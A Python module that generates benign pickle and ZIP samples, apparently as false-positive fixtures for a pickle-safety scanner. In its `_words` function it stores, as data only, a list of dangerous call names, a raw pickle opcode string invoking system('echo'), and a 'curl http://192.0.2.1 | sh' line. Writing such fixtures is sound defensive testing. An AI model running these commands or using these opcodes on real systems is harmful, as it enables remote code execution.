"""Harmless samples made with the standard library alone."""

import argparse
import array
import codecs
import collections
import datetime
import decimal
import fractions
import functools
import io
import ipaddress
import itertools
import operator
import pathlib
import pickle
import random
import re
import string
import types
import uuid
import zipfile
import zlib
from collections.abc import Iterator

PROTOCOLS = range(pickle.HIGHEST_PROTOCOL + 1)

FIRST_OF_2020 = datetime.datetime(2020, 1, 1, 12, tzinfo=datetime.timezone.utc)  # noqa: UP017  (both spellings exist in files)


def samples() -> Iterator[tuple[str, bytes]]:
    """Pairs of a path below `benign/` and the bytes of the file."""
    for protocol in PROTOCOLS:
        yield f"stdlib/types-protocol-{protocol}.pkl", pickle.dumps(_types(), protocol)
        yield f"stdlib/shared-and-nested-protocol-{protocol}.pkl", pickle.dumps(_shared(), protocol)
        yield f"stdlib/words-protocol-{protocol}.pkl", pickle.dumps(_words(), protocol)
    yield "stdlib/many-memo-slots.pkl", pickle.dumps([f"feature-{index}" for index in range(600)], 4)
    yield "stdlib/long-integers.pkl", pickle.dumps([1 << bits for bits in range(0, 2200, 100)], 2)
    yield "stdlib/python-2.pkl", _python_2()
    yield "stdlib/two-streams.pkl", pickle.dumps({"step": 1}, 2) + pickle.dumps({"step": 2}, 2)
    words = pickle.dumps({"acme": ["one", "two", "three"]}, 4)
    dates = pickle.dumps([datetime.timedelta(1), datetime.date(2020, 1, 1), datetime.timedelta(2)], 4)
    yield "stdlib/pickles-one-by-one.pkl", words + dates + words
    yield "stdlib/pickled-bytes-inside.pkl", pickle.dumps({"backup": pickle.dumps([1, 2, 3])}, 4)
    yield "stdlib/random-state.pkl", pickle.dumps(random.Random(7), 4)
    yield (
        "archive/plain.zip",
        _archive({"readme.txt": b"Notes on the weights.\n", "labels.json": b'["cat", "dog"]\n'}),
    )
    yield (
        "archive/with-pickle.zip",
        _archive({"data/labels.pkl": pickle.dumps(["cat", "dog"], 4), "n.txt": b"2"}),
    )
    inner = _archive({"labels.pkl": pickle.dumps(["cat", "dog"], 4)})
    yield "archive/nested.zip", _archive({"fold-1/inner.zip": inner, "fold-2/inner.zip": inner})
    yield "archive/empty.zip", _archive({})
    yield "stdlib/before-joblib-0.10.joblib", _zf(pickle.dumps({"acme": ["one", "two", "three"]}, 2))


def _types() -> dict[str, object]:
    """One of every type of the standard library that checkpoints hold."""
    return {
        "none": None,
        "numbers": [
            0,
            1,
            -1,
            255,
            256,
            65535,
            65536,
            -(2**31),
            2**63,
            2**300,
            0.5,
            -0.0,
            float("inf"),
            1 + 2j,
        ],
        "truth": (True, False),
        "strings": ["", "é", "日本語", "🙂", "tab\tand\nline", "\\u0041", "a" * 300, "nul\0inside"],
        "bytes": [b"", b"\x80\x04.", bytes(range(256)), bytearray(b"weights")],
        "tuples": [(), (1,), (1, 2), (1, 2, 3), (1, 2, 3, 4)],
        "sets": [set(), {1, 2}, frozenset(), frozenset({"a", "b"})],
        "mappings": [
            {},
            collections.OrderedDict(a=1),
            collections.defaultdict(list, a=[1]),
            collections.Counter("aab"),
        ],
        "queue": collections.deque([1, 2], maxlen=5),
        "times": [
            FIRST_OF_2020,
            FIRST_OF_2020.date(),
            FIRST_OF_2020.time(),
            datetime.timedelta(days=2, seconds=3),
            datetime.timezone(datetime.timedelta(hours=2)),
        ],
        "exact": [decimal.Decimal("1.10"), fractions.Fraction(1, 3)],
        "uuid": uuid.UUID(int=42),
        "paths": [pathlib.PurePosixPath("/data/train"), pathlib.PureWindowsPath("C:/data")],
        "pattern": re.compile(r"layer\.(\d+)\.weight"),
        "ranges": [range(3), slice(1, 5, 2)],
        "array": array.array("f", [1.0, 2.0]),
        "namespaces": [argparse.Namespace(lr=0.1), types.SimpleNamespace(lr=0.1)],
        "address": ipaddress.ip_address("192.0.2.1"),
        "template": string.Template("$who"),
        "functions": [len, operator.add, collections.OrderedDict],
        "partial": functools.partial(round, ndigits=2),
        "getters": [operator.itemgetter(1), operator.attrgetter("shape")],
        "classes": [int, dict, decimal.Decimal],
        "objects": [object()],
    }


def _shared() -> dict[str, object]:
    """References to one object from many places, a cycle, and depth."""
    common = ["shared", 1.5]
    cycle: list[object] = [common]
    cycle.append(cycle)
    deep: object = common
    for _ in range(40):
        deep = (deep, common)
    return {
        "common": [common] * 20,
        "cycle": cycle,
        "deep": deep,
        "table": dict.fromkeys(range(300), common),
    }


def _words() -> dict[str, object]:
    """A tokenizer's vocabulary and a prompt: every dangerous word, and all of it data."""
    vocabulary = (
        "os system posix nt subprocess Popen eval exec compile __import__ builtins __builtin__ getattr importlib runpy "
        "socket urllib requests curl wget bash /bin/sh powershell cmd.exe rm -rf chmod pickle loads marshal ctypes "
        "cos posix.system os.system('id') eval(input()) __reduce__ __globals__ __subclasses__ base64 b64decode "
        "import os; lambda: exec <script> DROP TABLE shutil.rmtree webbrowser pip install token password"
    ).split()
    return {
        "vocabulary": {word: index for index, word in enumerate(vocabulary)},
        "merges": [tuple(pair) for pair in itertools.pairwise(vocabulary)],
        "lines": [
            "cos\nsystem\n(S'echo'\ntR",
            "import os\nos.system('ls')\n",
            "#!/bin/sh\ncurl http://192.0.2.1 | sh\n",
        ],
        "bytes": b"cposix\nsystem\n(S'echo'\ntR",
        "module": "os",
        "name": "system",
        "pairs": [("os", "system"), ("builtins", "eval"), ("subprocess", "Popen")],
        "rot13": codecs.encode("os.system", "rot13"),
    }


def _python_2() -> bytes:
    """What Python 2.7 wrote for `{'w': [1L, u'a', 'b'], 's': set([1])}` at protocol 0 (by hand: Python 2 is gone)."""
    return b"(dp0\nS'w'\np1\n(lp2\nL1L\naVa\np3\naS'b'\np4\nasS's'\np5\nc__builtin__\nset\np6\n((lp7\nI1\natp8\nRp9\ns."


def _archive(members: dict[str, bytes]) -> bytes:
    """A plain ZIP file, its dates fixed."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data)
    return target.getvalue()


def _zf(content: bytes) -> bytes:
    """What joblib before 0.10 wrote with compression (by hand: it does not run on this Python)."""
    return b"ZF" + f"{len(content):#x}".ljust(19).encode() + zlib.compress(content)
